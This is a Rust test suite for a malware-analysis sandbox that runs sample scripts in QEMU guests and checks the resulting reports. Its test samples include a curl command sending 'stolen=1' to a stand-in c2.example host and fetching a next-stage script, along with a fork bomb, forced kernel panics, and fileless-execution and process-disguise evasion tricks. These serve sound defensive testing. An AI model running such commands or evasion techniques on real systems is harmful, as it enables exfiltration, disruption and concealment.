//! Whole analyses over the REST API: from a submission to the report, in real machines.

#[allow(dead_code)] // Of the tests of guests.
mod common;
mod server;

use serde_json::{Value as Json, json};
use server::Server;

/// Not a test of its own: what answers the machines of the tests below, in a process of its own.
#[test]
#[ignore = "it is started by other tests"]
fn internet_process() {
    sandbox::internet::run().unwrap();
}

const SCRIPT: &str = r#"#!/bin/sh
echo "the clock says $(date -u +%Y-%m-%d) and I am $(id -un)"
echo "argument $1"
mkdir -p /tmp/made && echo dropped > /tmp/made/note.txt
python3 -c 'print("child")'
sleep 1
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_script_is_run_and_reported() {
    let Some(server) = Server::start(1).await else { return };
    let fields =
        [("clock", "04-07-2031 16:20:05"), ("options", "arguments=hello"), ("memory", "1"), ("owner", "ada")];
    let task = server.submit("demo.sh", SCRIPT, &fields).await;
    let events = server.get(&format!("tasks/events/{task}")).await;
    assert_eq!(events.headers()["content-type"], "text/event-stream");
    let told = events.text().await.unwrap();
    let stages = [r#""stage":"restoring""#, r#""stage":"running""#, r#""status":"reported""#]
        .map(|stage| told.find(stage).unwrap_or_else(|| panic!("{stage}: {told}")));
    assert!(stages.is_sorted(), "{told}");
    let shown = server.ended(task).await;
    assert_eq!((&shown["status"], &shown["errors"]), (&json!("reported"), &json!([])), "{shown:#}");
    let guest = &shown["guest"];
    assert_eq!(
        (&guest["name"], &guest["manager"], &guest["status"]),
        (&json!("linux1"), &json!("QEMU"), &json!("stopped"))
    );
    assert!(shown["duration"].as_i64().unwrap() >= 1 && shown["completed_on"].is_string());
    let output = server.file(task, "logs/stdout.txt");
    assert_eq!(output, "the clock says 2031-04-07 and I am guest\nargument hello\nchild\n");
    let report = server.report(task).await;
    assert_eq!(report["target"]["file"]["name"], "demo.sh");
    let dropped = report["dropped"].as_array().unwrap();
    let note = dropped.iter().find(|file| file["filepath"] == "/tmp/made/note.txt").unwrap();
    assert_eq!((&note["size"], note["name"].as_str().unwrap().ends_with("_note.txt")), (&json!(8), true));
    let processes = report["behavior"]["processes"].as_array().unwrap();
    let commands: Vec<&str> =
        processes.iter().map(|process| process["command_line"].as_str().unwrap()).collect();
    assert!(commands.iter().any(|command| command.contains("print(\"child\")")), "{commands:?}");
    let tree = &report["behavior"]["processtree"][0];
    assert!(tree["command_line"].as_str().unwrap().contains("/tmp/demo.sh hello"), "{tree:#}");
    let [began, child] = [tree, &tree["children"][0]].map(|process| process["first_seen"].as_f64().unwrap());
    assert!(began < child && child < began + 600.0, "both by the machine's clock: {tree:#}");
    assert!(!tree["children"].as_array().unwrap().is_empty());
    assert_eq!(report["network"]["http"], json!([]));
    assert!(server.file(task, "analysis.log").contains("the first process ended"));
    // What else clients fetch.
    let shots = server.get(&format!("tasks/screenshots/{task}")).await;
    assert_eq!(shots.headers()["content-type"], "application/zip");
    assert!(shots.headers().contains_key("content-length"));
    let shot = server.get(&format!("tasks/screenshots/{task}/1")).await;
    assert_eq!(shot.headers()["content-type"], "image/jpeg");
    assert_eq!(shot.bytes().await.unwrap()[..2], [0xff, 0xd8]);
    let capture = server.get(&format!("pcap/get/{task}")).await.bytes().await.unwrap();
    assert_eq!(capture[..4], [0xd4, 0xc3, 0xb2, 0xa1]);
    let memory = server.dir.path().join(format!("analyses/{task}/memory.dmp"));
    assert!(std::fs::metadata(memory).unwrap().len() >= 256 << 20);
    let all = server.get(&format!("tasks/report/{task}/all?tar=gz")).await.bytes().await.unwrap();
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(&all[..]));
    let names: Vec<String> = archive
        .entries()
        .unwrap()
        .map(|entry| entry.unwrap().path().unwrap().display().to_string())
        .collect();
    for name in ["binary", "reports/report.json", "analysis.log", "dump.pcap", "shots/0001.jpg", "task.json"]
    {
        assert!(names.iter().any(|member| member == name), "{name} in {names:?}");
    }
    assert!(!names.contains(&"memory.dmp".to_owned()));
    its_page_tells_the_same(&server, task).await;
}

/// The report for people, with what the sample did, in a form that can do nothing.
async fn its_page_tells_the_same(server: &Server, task: u64) {
    let page = server.get(&format!("tasks/report/{task}/html")).await;
    let header = |name: &str| page.headers()[name].to_str().unwrap().to_owned();
    assert_eq!((page.status().as_u16(), header("content-type")), (200, "text/html; charset=utf-8".into()));
    assert_eq!(
        header("content-security-policy"),
        "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'"
    );
    assert_eq!(header("x-content-type-options"), "nosniff");
    let page = page.text().await.unwrap();
    let file = server.report(task).await["target"]["file"].clone();
    for shown in [
        "demo.sh",
        file["sha256"].as_str().unwrap(),
        "ended without errors",
        "linux1, QEMU",
        "arguments=hello",
        "/tmp/demo.sh hello",
        "print(&#34;child&#34;)",
        "/tmp/made/note.txt",
        "data:image/jpeg;base64,/9j/",
        "the first process ended",
    ] {
        assert!(page.contains(shown), "{shown}");
    }
    assert!(!page.contains("score") && !page.contains("<script"));
    let path = server.dir.path().join(format!("analyses/{task}/reports/report.html"));
    std::fs::remove_file(&path).unwrap();
    let gone = server.get(&format!("tasks/report/{task}/html")).await;
    assert_eq!(gone.status(), 404);
    let told = gone.text().await.unwrap();
    assert!(told.contains(&format!("/tasks/rereport/{task} makes both anew")), "{told}");
    assert_eq!(server.json(&format!("tasks/rereport/{task}")).await, json!({"success": true}));
    server.ended(task).await;
    let again = server.get(&format!("tasks/report/{task}/html")).await.text().await.unwrap();
    // The end of a task is that of its last processing.
    let lines =
        |page: &str| page.lines().filter(|line| !line.contains("Ended")).collect::<Vec<_>>().join("\n");
    assert_eq!(lines(&again), lines(&page));
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_sample_says_to_the_internet_is_reported() {
    let Some(server) = Server::start(2).await else { return };
    let script =
        "curl -sS -m 60 -d stolen=1 https://c2.example/gate.php; curl -sS -m 60 http://cdn.example/next.sh";
    let task = server.submit("talk.sh", script, &[]).await;
    let without = server.submit("talk.sh", script, &[("options", "route=none")]).await;
    let shown = server.ended(task).await;
    assert_eq!((&shown["errors"], &shown["route"]), (&json!([]), &json!("fake")), "{shown:#}");
    let network = server.report(task).await["network"].clone();
    let secret = &network["https_ex"][0];
    assert_eq!((&secret["host"], &secret["uri"]), (&json!("c2.example"), &json!("/gate.php")), "{network:#}");
    let body = secret["req"]["path"]
        .as_str()
        .unwrap()
        .strip_prefix(&format!("analyses/{task}/"))
        .unwrap()
        .to_owned();
    assert_eq!(server.file(task, &body), "stolen=1");
    let uris: Vec<&str> =
        network["http"].as_array().unwrap().iter().map(|http| http["uri"].as_str().unwrap()).collect();
    assert_eq!(uris, ["http://cdn.example/next.sh", "https://c2.example/gate.php"]);
    assert_eq!(network["tls"][0]["sni"], "c2.example");
    let domains = network["domains"].as_array().unwrap();
    assert!(
        domains.iter().any(|domain| domain["domain"] == "c2.example" && domain["ip"] == secret["dst"]),
        "{domains:?}"
    );
    assert_eq!(network["dead_hosts"], json!([]));
    let shown = server.ended(without).await;
    assert_eq!((&shown["errors"], &shown["route"]), (&json!([]), &json!("none")), "{shown:#}");
    let network = server.report(without).await["network"].clone();
    assert_eq!((&network["https_ex"], &network["http"]), (&json!([]), &json!([])));
}

#[tokio::test(flavor = "multi_thread")]
async fn two_run_side_by_side_and_never_meet() {
    let Some(server) = Server::start(2).await else { return };
    let script = "head -c 16 /dev/urandom | od -An -tx1; cat /proc/sys/kernel/random/uuid; ls /tmp; echo mine > /tmp/$1; sleep 2; ls /tmp";
    let mut tasks = Vec::new();
    for name in ["first", "second"] {
        tasks.push(server.submit("x.sh", script, &[("options", &format!("arguments={name}"))]).await);
    }
    let mut outputs = Vec::new();
    for task in &tasks {
        let shown = server.ended(*task).await;
        assert_eq!(shown["errors"], json!([]));
        outputs.push((server.file(*task, "logs/stdout.txt"), shown["guest"]["name"].clone()));
    }
    assert_ne!(outputs[0].1, outputs[1].1);
    let lines = |at: usize| outputs[at].0.lines().map(String::from).collect::<Vec<_>>();
    assert_ne!(lines(0)[..2], lines(1)[..2]);
    assert!(outputs[0].0.contains("first") && !outputs[0].0.contains("second"), "{outputs:?}");
    assert!(outputs[1].0.contains("second") && !outputs[1].0.contains("first"), "{outputs:?}");
}

/// What it did until then is in the report.
const PANIC: &str = "echo before > /tmp/before.txt; echo gone > /tmp/gone.txt; rm /tmp/gone.txt; sleep 1
echo c > /proc/sysrq-trigger; sleep 60";

#[tokio::test(flavor = "multi_thread")]
async fn samples_that_misbehave_end_with_a_report_and_the_next_one_is_clean() {
    let Some(server) = Server::start(1).await else { return };
    let hostile = [
        ("endless.sh", "while :; do :; done", "timeout", ""),
        ("bomb.sh", "bomb() { bomb | bomb & }; bomb; sleep 60", "timeout", ""),
        ("flood.sh", "yes flood | head -c 10G", "timeout", ""),
        ("disk.sh", "dd if=/dev/zero of=/tmp/full bs=1M; sleep 1; echo done", "timeout", ""),
        ("panic.sh", PANIC, "root", "the guest's kernel gave up"),
        ("agent.sh", "kill -9 $(pidof harrier-guest-agent); kill -9 1; echo survived", "root", ""),
        ("off.sh", "echo o > /proc/sysrq-trigger; sleep 60", "root", "switched itself off"),
    ];
    for (name, script, how, error) in hostile {
        let root = if how == "root" { "root=yes" } else { "" };
        let task = server.submit(name, script, &[("timeout", "8"), ("options", root)]).await;
        let shown = server.ended(task).await;
        assert_eq!(shown["status"], "reported", "{name}: {shown:#}");
        let errors = shown["errors"].to_string();
        assert!(error.is_empty() || errors.contains(error), "{name}: {errors}");
        let report = server.report(task).await;
        assert!(report["info"]["machine"]["name"] == "linux1" && report["behavior"]["processes"].is_array());
        assert!(
            server.dir.path().join(format!("analyses/{task}/logs/stdout.txt")).metadata().unwrap().len()
                < 64 << 20
        );
        if name == "panic.sh" {
            let dropped = report["dropped"].as_array().unwrap();
            let paths: Vec<&str> = dropped.iter().map(|file| file["filepath"].as_str().unwrap()).collect();
            assert!(paths.contains(&"/tmp/before.txt") && paths.contains(&"/tmp/gone.txt"), "{paths:?}");
            let written = report["behavior"]["summary"]["file_written"].as_array().unwrap();
            assert!(written.contains(&json!("/tmp/before.txt")), "{written:?}");
        }
        let next = server.submit("clean.sh", "ls /tmp; echo clean", &[]).await;
        let shown = server.ended(next).await;
        assert_eq!(shown["errors"], json!([]), "after {name}");
        assert_eq!(server.file(next, "logs/stdout.txt"), "clean.sh\nclean\n", "after {name}");
    }
}

/// Makes each kind of call once, in Python, whose library has no name for some.
const CALLER: &str = r#"
import ctypes, fcntl, os, socket, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
os.mkdir('/tmp/made')
with open('/tmp/made/first', 'w') as file:
    fcntl.flock(file, fcntl.LOCK_EX)
    file.write('written and gone')
os.rename('/tmp/made/first', '/tmp/made/second')
os.unlink('/tmp/made/second')
os.rmdir('/tmp/made')
try:
    open('/etc/none/such')
except OSError:
    pass
link = socket.socket()
link.settimeout(1)
link.connect_ex(('127.0.0.1', 4660))
lock = socket.socket(socket.AF_UNIX)
lock.bind('\0only-one')
libc.prctl(15, b'kworker/0:1', 0, 0, 0)
libc.prctl(4, 0, 0, 0, 0)
print([line.strip() for line in open('/proc/self/status') if line.startswith('TracerPid')])
print('traceme', libc.ptrace(0, 0, 0, 0))
print('uring', libc.syscall(425, 8, 0), ctypes.get_errno())
print('bpf', libc.syscall(321, 11, 0, 0), ctypes.get_errno())
subprocess.run(['/bin/true', 'with words'])
if os.fork() == 0:
    os.write(1, b'child\n')
    os._exit(7)
os.wait()
"#;

#[tokio::test(flavor = "multi_thread")]
async fn calls_are_reported_with_their_arguments() {
    let Some(server) = Server::start(2).await else { return };
    let task = server.submit("caller.py", CALLER, &[]).await;
    let stopping = server.submit("caller.py", CALLER, &[("options", "trace=ptrace")]).await;
    calls_are_told(&server, task).await;
    let log = server.file(task, "analysis.log");
    assert!(log.contains("(eBPF)") && !log.contains("(ptrace)"), "{log}");
    assert!(server.file(task, "logs/stdout.txt").contains("['TracerPid:\\t0']"));
    let report = server.report(task).await;
    assert!(report["behavior"]["calls_counted"]["brk"].as_u64().unwrap() > 0);

    // The same by stops.
    calls_are_told(&server, stopping).await;
    let log = server.file(stopping, "analysis.log");
    assert!(log.contains("(ptrace)") && !log.contains("(eBPF)"), "{log}");

    let free = server.submit("caller.py", CALLER, &[("options", "free=yes")]).await;
    server.ended(free).await;
    let report = server.report(free).await;
    let processes = report["behavior"]["processes"].as_array().unwrap().clone();
    assert!(!processes.is_empty() && processes.iter().all(|process| process["calls"] == json!([])));
}

async fn calls_are_told(server: &Server, task: u64) {
    let shown = server.ended(task).await;
    assert_eq!(shown["errors"], json!([]));
    let output = server.file(task, "logs/stdout.txt");
    assert!(output.contains("traceme 0"), "{output}");
    assert!(output.contains("uring -1 1\n"), "refused: {output}");
    let report = server.report(task).await;
    let behavior = &report["behavior"];
    let calls: Vec<&Json> = behavior["processes"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|process| process["calls"].as_array().unwrap())
        .collect();
    assert!(!calls.is_empty(), "{}", server.file(task, "analysis.log"));
    let find = |api: &str, argument: &str, value: Json| {
        let found = calls.iter().find(|call| call["api"] == api && call["arguments"][argument] == value);
        *found.unwrap_or_else(|| panic!("{api} {argument}={value} among {} calls", calls.len()))
    };
    let made = find("mkdir", "filepath", json!("/tmp/made"));
    assert_eq!((&made["return_value"], &made["flags"]["mode"]), (&json!(0), &json!("0777")));
    let opened = find("openat", "filepath", json!("/tmp/made/first"));
    assert_eq!(opened["flags"]["flags"], "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC");
    let written = find("write", "filepath", json!("/tmp/made/first"));
    assert_eq!(
        (&written["arguments"]["buffer"], &written["return_value"]),
        (&json!("written and gone"), &json!(16))
    );
    assert_eq!(find("openat", "filepath", json!("/etc/none/such"))["flags"]["errno"], "ENOENT");
    assert_eq!(
        find("rename", "newfilepath", json!("/tmp/made/second"))["arguments"]["oldfilepath"],
        "/tmp/made/first"
    );
    let connect = find("connect", "ip", json!("127.0.0.1"));
    assert_eq!((&connect["arguments"]["port"], &connect["return_value"]), (&json!(4660), &json!(-1)));
    assert_eq!(find("flock", "filepath", json!("/tmp/made/first"))["flags"]["operation"], "LOCK_EX");
    assert_eq!(find("prctl", "option", json!(15))["flags"]["option"], "PR_SET_NAME");
    assert_eq!(find("ptrace", "request", json!(0))["return_value"], 0);
    assert_eq!(find("io_uring_setup", "entries", json!(8))["flags"]["errno"], "EPERM");
    assert_eq!(find("bpf", "command", json!(11))["flags"]["errno"], "EPERM");
    find("execve", "command_line", json!("/bin/true with words"));
    find("exit_group", "status", json!(7));
    let child = find("write", "buffer", json!("child\n"));
    let forks = |call: &&&Json| ["clone", "fork", "vfork", "clone3"].contains(&call["api"].as_str().unwrap());
    assert!(calls.iter().filter(forks).any(|fork| fork["return_value"] == child["tid"]));
    let group = |name: &str| behavior["summary"][name].as_array().cloned().unwrap_or_default();
    assert!(group("file_moved").contains(&json!(["/tmp/made/first", "/tmp/made/second"])));
    assert!(group("file_deleted").contains(&json!("/tmp/made/second")));
    assert!(group("directory_created").contains(&json!("/tmp/made")));
    assert!(group("directory_removed").contains(&json!("/tmp/made")));
    assert!(
        group("mutex").contains(&json!("/tmp/made/first")) && group("mutex").contains(&json!("@only-one"))
    );
    assert!(group("connects_ip").contains(&json!("127.0.0.1")));
    assert!(group("dll_loaded").iter().any(|path| path.as_str().unwrap().contains("/libc.so.6")));
    let tricks = behavior["anomaly"].to_string();
    for api in ["ptrace", "io_uring_setup", "bpf", "openat", "prctl"] {
        assert!(tricks.contains(&format!("\"funcname\":\"{api}\"")), "{api}: {tricks}");
    }
    // The file is gone from the guest, and kept all the same.
    let dropped = report["dropped"].as_array().unwrap();
    let gone = dropped
        .iter()
        .find(|file| file["size"] == 16 && file["filepath"].as_str().unwrap().starts_with("/tmp/made/"));
    let gone = gone.unwrap_or_else(|| panic!("{dropped:#?}"));
    assert_eq!(gone["pids"], json!([opened["tid"]]));
}

/// Does what hides a program, its children or its files from whoever follows them, with all rights.
const HIDER: &str = r#"
import ctypes, os, shutil, subprocess, time
libc = ctypes.CDLL(None, use_errno=True)
for _ in range(7):
    os.sched_yield()
fd = os.memfd_create('hidden', 0)
with open('/bin/true', 'rb') as source, os.fdopen(os.dup(fd), 'wb') as target:
    shutil.copyfileobj(source, target)
if os.fork() == 0:
    os.execve(fd, ['kworker/7:0', 'from', 'memory'], {})
os.wait()
try:
    with open('/sys/fs/cgroup/cgroup.procs', 'w') as group:
        group.write('0')
    print('escaped')
except OSError as error:
    print('refused')
subprocess.run(['mount', '-t', 'cgroup2', 'none', '/media'])
os.mkdir('/media/below')
with open('/media/below/cgroup.procs', 'w') as group:
    group.write('0')
with open('/tmp/after', 'w') as file:
    file.write('x')
os.remove('/tmp/after')
with open('/usr/bin/implant', 'w') as file:
    file.write('left behind')
subprocess.run(['unshare', '-m', 'sh', '-c', 'mount -t tmpfs none /mnt && cp /bin/true /mnt/own && /mnt/own'])
CLONE_PARENT = 0x8000
if libc.syscall(56, CLONE_PARENT | 17, 0, 0, 0, 0) == 0:
    os.mkdir('/tmp/sibling')
    time.sleep(1)
    os.mkdir('/tmp/later')
    os._exit(0)
"#;

#[tokio::test(flavor = "multi_thread")]
async fn what_hides_is_seen_all_the_same() {
    let Some(server) = Server::start(2).await else { return };
    for options in ["root=yes", "root=yes,trace=ptrace"] {
        let task = server.submit("hider.py", HIDER, &[("options", options)]).await;
        let shown = server.ended(task).await;
        assert_eq!(shown["errors"], json!([]));
        assert_eq!(server.file(task, "logs/stdout.txt"), "refused\n");
        let report = server.report(task).await;
        let behavior = &report["behavior"];
        let has = |group: &str, entry: &str| {
            let entries = behavior["summary"][group].as_array().cloned().unwrap_or_default();
            assert!(entries.contains(&json!(entry)), "{options}: {entry} in {group}: {entries:?}");
        };
        has("command_line", "kworker/7:0 from memory");
        has("file_deleted", "/tmp/after");
        has("directory_created", "/tmp/sibling");
        has("directory_created", "/tmp/later");
        let dropped = report["dropped"].as_array().unwrap();
        for path in ["/memfd:hidden", "/mnt/own", "/usr/bin/implant"] {
            let file = dropped.iter().find(|file| file["filepath"] == path);
            let file = file.unwrap_or_else(|| panic!("{options}: {path} in {dropped:#?}"));
            assert!(path == "/usr/bin/implant" || file["type"].as_str().unwrap().starts_with("ELF"));
        }
        let anomalies = behavior["anomaly"].to_string();
        assert!(anomalies.contains("lies in memory") && anomalies.contains("control groups"), "{anomalies}");
        let tree = behavior["processtree"].as_array().unwrap();
        assert_eq!(tree.len(), 1, "{options}: nobody is on its own: {tree:#?}");
        let calls = behavior["processes"][0]["calls"].as_array().unwrap();
        assert_eq!(calls[0]["api"], "execve", "{options}: the launch is no part of it");
        if options == "root=yes" {
            assert_eq!(behavior["calls_counted"]["sched_yield"], 7, "each once");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_burst_of_calls_ends_and_counts_what_was_lost() {
    let Some(server) = Server::start(1).await else { return };
    let script = "import os\nwith open('/dev/null', 'wb', 0) as out:\n  for at in range(200000):\n    os.write(out.fileno(), b'%d' % (at % 7))\n";
    let task = server.submit("burst.py", script, &[]).await;
    let shown = server.ended(task).await;
    assert_eq!(shown["errors"], json!([]));
    let report = server.report(task).await;
    let behavior = &report["behavior"];
    let told: u64 = behavior["apistats"]
        .as_object()
        .unwrap()
        .values()
        .filter_map(|counts| counts["write"].as_u64())
        .sum();
    let cut = behavior["calls_cut"].as_u64().unwrap_or(0);
    eprintln!("{told} told, {cut} cut");
    assert!(told + cut >= 200_000, "{told} told, {cut} cut");
}

#[tokio::test(flavor = "multi_thread")]
async fn memory_of_living_processes_is_kept_on_request() {
    let Some(server) = Server::start(1).await else { return };
    let script = "import time\nsecret = 'http://c2.example/' + 'in-memory'\ntime.sleep(600)\n";
    let task = server.submit("lasting.py", script, &[("timeout", "4"), ("options", "procmemdump=yes")]).await;
    let shown = server.ended(task).await;
    assert_eq!(shown["errors"], json!([]));
    let listed = server.json(&format!("memory/list/{task}")).await;
    let name = listed["dump_files"][0].as_str().unwrap().to_owned();
    let dump = server.get(&format!("memory/get/{task}/{name}")).await.bytes().await.unwrap();
    assert_eq!(dump[..4], *b"\x7fELF");
    let wanted = b"http://c2.example/in-memory";
    assert!(dump.windows(wanted.len()).any(|part| part == wanted));
    let report = server.report(task).await;
    let memory = &report["procmemory"][0];
    assert_eq!(format!("{}-{}", memory["pid"], memory["num"]), name);
    assert!(memory["regions"].as_array().unwrap().iter().any(|region| region["protect"] == "rx"));
}

/// Each of them makes the text in memory only: its file has the halves.
const SHORT_LIVES: &str = r#"
import ctypes, os, threading
def child(what):
    pid = os.fork()
    if pid == 0:
        what()
        os._exit(0)
    os.waitpid(pid, 0)
def say(half):
    globals()['kept_' + half] = 'kept-in-' + half
libc = ctypes.CDLL(None)
print([line.strip() for line in open('/proc/self/status') if line.startswith('TracerPid')])
child(lambda: say('child'))
def alone():
    # The last thread of its process, without saying that it takes it along.
    say('thread')
    thread = threading.Thread(target=lambda: None)
    thread.start()
    thread.join()
    libc.syscall(60, 0)
child(alone)
def traced():
    say('traced')
    libc.ptrace(0, 0, 0, 0)
child(traced)
child(lambda: (say('program'), os.execv('/bin/sh', ['sh', '-c', 'exec /bin/true'])))
child(lambda: (say('kill'), os.kill(os.getpid(), 9)))
child(lambda: (say('crash'), ctypes.string_at(0)))
"#;

#[tokio::test(flavor = "multi_thread")]
async fn memory_of_processes_that_end_early_is_kept() {
    let Some(server) = Server::start(2).await else { return };
    let quiet = server.submit("short.py", SHORT_LIVES, &[("options", "procmemdump=yes")]).await;
    let stopping =
        server.submit("short.py", SHORT_LIVES, &[("options", "procmemdump=yes,trace=ptrace")]).await;
    for (task, is_traced, asked, killed) in [(quiet, false, 1, 0), (stopping, true, 1, 1)] {
        let shown = server.ended(task).await;
        assert_eq!(shown["errors"], json!([]));
        let log = server.file(task, "analysis.log");
        let output = server.file(task, "logs/stdout.txt");
        assert_eq!(output.contains("'TracerPid:\\t0'"), !is_traced, "{output}");
        let listed = server.json(&format!("memory/list/{task}")).await;
        let names: Vec<&str> =
            listed["dump_files"].as_array().unwrap().iter().map(|name| name.as_str().unwrap()).collect();
        let mut dumps = Vec::new();
        for name in &names {
            dumps.push(server.get(&format!("memory/get/{task}/{name}")).await.bytes().await.unwrap());
        }
        let with = |text: &str| {
            let holds = |dump: &[u8]| dump.windows(text.len()).any(|part| part == text.as_bytes());
            dumps.iter().filter(|dump| holds(dump)).count()
        };
        for (half, times) in [
            ("child", asked),
            ("thread", asked),
            ("traced", asked),
            ("program", 0),
            ("kill", killed),
            ("crash", killed),
        ] {
            assert_eq!(with(&format!("kept-in-{half}")), times, "{half}, {names:?}: {log}");
        }
        // The shell that became `true` has two.
        assert_eq!(names.iter().filter(|name| name.ends_with("-2")).count(), 1, "{names:?}: {log}");
        let report = server.report(task).await;
        let memory = report["procmemory"].as_array().unwrap();
        assert_eq!(memory.len(), names.len());
        assert!(memory.iter().all(|dump| names.contains(&&*format!("{}-{}", dump["pid"], dump["num"]))));
        assert!(memory.iter().all(|dump| !dump["regions"].as_array().unwrap().is_empty()));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn many_whose_memory_is_kept_end_and_what_was_left_out_is_counted() {
    let Some(server) = Server::start(2).await else { return };
    let many = "i=0; while [ $i -lt 100 ]; do ( : ) & i=$((i+1)); done; wait";
    let many = server.submit("many.sh", many, &[("options", "procmemdump=yes")]).await;
    let bomb = "bomb() { bomb | bomb & }; bomb; sleep 60";
    let bomb = server.submit("bomb.sh", bomb, &[("timeout", "8"), ("options", "procmemdump=yes")]).await;
    let shown = server.ended(many).await;
    assert_eq!(shown["errors"], json!([]));
    let log = server.file(many, "analysis.log");
    assert!(log.contains("the memory of 37 further processes that ended was left out"), "{log}");
    let report = server.report(many).await;
    assert_eq!(report["procmemory"].as_array().unwrap().len(), 64, "{log}");
    let memory = server.dir.path().join(format!("analyses/{many}/memory"));
    let sizes = std::fs::read_dir(memory).unwrap().map(|dump| dump.unwrap().metadata().unwrap().len());
    eprintln!("{} KiB of 64 processes, a run of {} s", sizes.sum::<u64>() >> 10, report["info"]["duration"]);
    let shown = server.ended(bomb).await;
    assert_eq!(shown["errors"], json!([]), "{}", server.file(bomb, "analysis.log"));
}
